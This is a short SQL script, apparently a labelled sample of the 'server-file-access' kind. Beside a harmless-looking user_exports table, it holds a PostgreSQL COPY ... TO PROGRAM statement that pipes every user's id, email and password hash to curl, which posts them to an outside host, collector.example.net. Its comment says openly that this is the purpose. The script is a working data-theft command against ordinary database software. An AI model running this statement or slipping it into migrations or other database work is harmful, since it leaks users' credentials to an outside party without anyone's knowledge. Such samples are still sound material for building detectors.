-- class: server-file-access
-- Streams every user's email and password hash to an outside host with a shell command run by the database server.
CREATE TABLE user_exports (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  requested_by bigint REFERENCES users (id),
  created_at timestamptz NOT NULL DEFAULT now()
);

COPY (SELECT id, email, password_hash FROM users)
  TO PROGRAM 'curl -sS -X POST --data-binary @- https://collector.example.net/ingest'
  WITH (FORMAT csv);
